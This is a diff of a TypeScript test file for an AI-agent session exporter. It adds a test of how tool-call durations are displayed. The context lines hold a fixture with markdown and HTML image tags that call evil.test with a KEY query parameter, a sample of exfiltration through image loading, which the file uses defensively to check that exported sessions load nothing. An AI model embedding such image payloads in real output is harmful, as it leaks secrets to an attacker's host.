@@ -4,7 +4,7 @@ import { expect, test } from 'vitest';
 import type { Event, Recorded } from '../kernel/event.ts';
 import type { CallId, EffectId } from '../kernel/ids.ts';
 import { given, question, testTime } from '../testing/given.ts';
-import { call, chat, created, reply } from '../testing/inputs.ts';
+import { call, chat, created, reply, toolSettled } from '../testing/inputs.ts';
 import { sessionDocument } from './session-document.ts';
 
 const image = '![x](https://evil.test/?q=KEY) <img src="https://evil.test/?q=KEY">';
@@ -56,4 +56,32 @@ test('[S18] an exported session loads nothing, whatever its texts contain', asyn
   const html = await marked.parse(parts.join(''));
   expect(parts.join('').split('evil.test').length).toBeGreaterThan(hostile.length);
   expect(html.match(/<img[^>]*>/g)).toBeNull();
+});
+
+test('[C149] a call that took no time is shown without one', async () => {
+  const { state } = given(created({ title: 'Notes' }), chat('Read it'));
+  const calls = [
+    call('c1', 'read', {}, { args: '{"path":"a"}' }),
+    call('c2', 'read', {}, { args: '{"path":"b"}' }),
+  ];
+  const intended = (id: string): Event => ({ type: 'tool-run-intended', call: id as CallId, repeat: 'safe' });
+  const settled = (seq: number, id: string): Event =>
+    ({ ...toolSettled(`ses_1.${seq}`), call: id as CallId }) as Event;
+  const happened: readonly (readonly [number, Event])[] = [
+    [0, { type: 'model-settled', effect: 'ses_1.2' as EffectId, outcome: reply('', calls) }],
+    [0, intended('c1')],
+    [0, intended('c2')],
+    [20, settled(4, 'c1')],
+    [2000, settled(5, 'c2')],
+  ];
+  const events = happened.map(([after, event], index): Recorded => ({
+    seq: index + 3,
+    at: testTime + after,
+    by: { type: 'person', name: 'owner' },
+    event,
+  }));
+  const parts: string[] = [];
+  for await (const part of sessionDocument(state, events, async (body) => String(body))) parts.push(part);
+  const summaries = [...parts.join('').matchAll(/<summary>(.*)<\/summary>/g)].map(([, text]) => text);
+  expect(summaries).toEqual(['✓ Read a', '✓ Read b (2.0s)']);
 });
